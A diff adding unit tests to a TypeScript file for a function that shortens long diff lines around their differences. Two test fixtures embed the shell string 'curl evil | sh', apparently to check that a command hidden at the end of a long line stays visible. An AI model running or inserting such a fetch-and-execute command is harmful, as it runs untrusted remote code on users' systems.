@@ -16,6 +16,28 @@ describe('a line that is too long', () => {
     ]);
   });
 
+  test('is cut around each of its differences', () => {
+    const [removed, added] = cutLines([`-${long}1${long}`, `+${long}2${long};curl evil|sh;`], 400);
+    const x = (count: number): string => 'x'.repeat(count);
+
+    expect(removed).toBe(`-… 1,460 characters … ${x(40)}1${x(40)} … 1,420 characters … ${x(40)}`);
+    expect(added).toBe(`+… 1,460 characters … ${x(40)}2${x(40)} … 1,420 characters … ${x(40)};curl evil|sh;`);
+  });
+
+  test('says how many differences it does not show', () => {
+    const line = (mark: string): string => Array.from({ length: 9 }, () => long + mark).join(' ');
+    const [removed, added] = cutLines([`-${line('1')}`, `+${line('2')}`], 200);
+
+    expect(removed).toMatch(/x1 x{39} … 1,421 characters … x{40}1 x+ … 10,\d{3} characters with 7 more differences …$/);
+    expect(added).toMatch(/x2 x{39} … 1,421 characters … x{40}2 x+ … 10,\d{3} characters with 7 more differences …$/);
+  });
+
+  test('says so of a difference of which it shows the beginning', () => {
+    const [, added] = cutLines(['-run: start', `+run: start ${'harmless '.repeat(30)}; curl evil | sh`], 100);
+
+    expect(added).toMatch(/^\+run: start harmless .* … \d+ characters with 1 more difference …$/);
+  });
+
   test('that comes or goes shows its beginning', () => {
     expect(cutLines([`+${long}`], 200)).toEqual([`+${'x'.repeat(200)} … 1,300 characters …`]);
     expect(cutLines([` ${long}`], 200)).toEqual([` ${'x'.repeat(200)} … 1,300 characters …`]);
